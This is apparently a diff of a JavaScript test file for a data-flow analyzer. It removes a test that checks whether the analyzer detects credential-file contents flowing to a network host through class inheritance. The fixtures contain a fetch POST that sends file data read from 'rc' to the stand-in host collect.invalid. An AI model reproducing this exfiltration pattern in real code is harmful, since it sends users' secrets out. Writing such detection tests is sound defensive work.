@@ -83,15 +83,4 @@ describe('the first look at a function that waits for a call', () => {
       [],
     );
   });
-
-  it('calls what a class leaves to those that are made of it as one of them', () => {
-    for (const parts of [
-      `class B { files() { return []; } async run() { for (const f of this.files()) await go(await fs.promises.readFile(f)); } } class D extends B { files() { return [rc]; } }`,
-      `class B { get files() { return []; } run() { for (const f of this.files) go(fs.readFileSync(f)); } } class D extends B { get files() { return [rc]; } }`,
-      `class B { async run() { await go(await this.read()); } } class D extends B { async read() { return fs.promises.readFile(rc); } }`,
-    ]) {
-      const go = `const go = (d) => fetch('https://collect.invalid', { method: 'POST', body: d });`;
-      assert.ok(flowsOf(`${go} ${parts} exports.D = D;`).includes('credential-file>network@collect.invalid'), parts);
-    }
-  });
 });
